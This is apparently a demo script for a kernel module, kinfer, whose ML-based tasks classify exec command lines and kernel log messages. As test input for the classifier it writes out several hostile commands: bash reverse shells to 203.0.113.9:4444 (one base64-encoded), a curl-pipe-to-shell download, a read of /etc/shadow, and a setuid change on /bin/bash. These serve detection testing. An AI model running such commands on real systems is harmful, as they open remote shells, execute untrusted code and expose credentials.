#!/bin/sh
# The guest half of `make demo` (see demo.sh).
set -eu
DEMO=$1
K=build/cmake/loader/kinfer
PY=.venv/bin/python
GUARD=/sys/kernel/kinfer/tasks/cmdline-guard
export PYTHONDONTWRITEBYTECODE=1
# eval, not sh -c: a shell's own argv would be a command line the task
# classifies; echo into sysfs is a builtin and execs nothing.
step() { printf '\n== %s\n$ %s\n' "$1" "$2"; eval "$2"; }
# Command lines go on stdin: an exec's own argv is classified too.
execs() { printf '%s\n' "$@" | $PY scripts/demo-exec.py; }

mountpoint -q /sys/fs/bpf || mount -t bpf bpf /sys/fs/bpf
step "kernel" "uname -r"
step "insert the module" "insmod kmod/kinfer.ko && cat /sys/kernel/kinfer/version"
step "cmdline-guard: enforce on exec (lsm.s/bprm_check_security)" \
	"$K task add $DEMO/cmdline-guard/cmdline-guard.task.json"
step "log-sentinel: audit kernel log lines (tp_btf/console, classified in a worker)" \
	"$K task add $DEMO/log-sentinel/log-sentinel.task.json"
step "tasks" "$K task list"

printf '\n== a mix of commands, each exec'"'"'d as /bin/true with that argv (the hook reads the argv)\n'
execs "ls -la /var/log" "systemctl status nginx" "git log --oneline -5" \
	"tar czf backup.tgz /etc/nginx" "curl -o release.tar.gz https://example.com/r.tgz" \
	"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" \
	"sh -c 'curl -s http://198.51.100.7/x.sh | sh'" \
	"sh -c 'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash'" \
	"cat /etc/shadow" "chmod u+s /bin/bash" "ssh deploy@10.0.4.2 uptime"

printf '\n== kernel log lines (written to /dev/kmsg)\n'
$PY -c "
import json
for p in json.load(open('$DEMO/log-sentinel/probe.json')):
    print('  ' + p['text'])
    open('/dev/kmsg', 'w').write('<4>' + p['text'] + '\n')"
step "what the tasks flagged (kinfer events; MiniLM needs seconds per line here)" \
	"$K events --follow --timeout-ms 45000"

step "raise cmdline-guard's threshold live" "echo 0.999 > $GUARD/threshold && cat $GUARD/threshold"
execs "cat /etc/shadow" "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
step "back to 0.5, and switch to audit mode" \
	"echo 0.5 > $GUARD/threshold && echo audit > $GUARD/mode && cat $GUARD/mode"
execs "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" "chmod u+s /bin/bash"
step "the same commands, now flagged but allowed" "$K events"
step "counters" "$K task show cmdline-guard | grep -E 'events|flagged|denied|errors|latency'"
step "a task's config map, as bpftool sees it" \
	"bpftool map dump pinned /sys/fs/bpf/kinfer/tasks/cmdline-guard/config"
step "remove the tasks and the module" \
	"$K task remove log-sentinel && $K task remove cmdline-guard && rmmod kinfer && echo module removed"
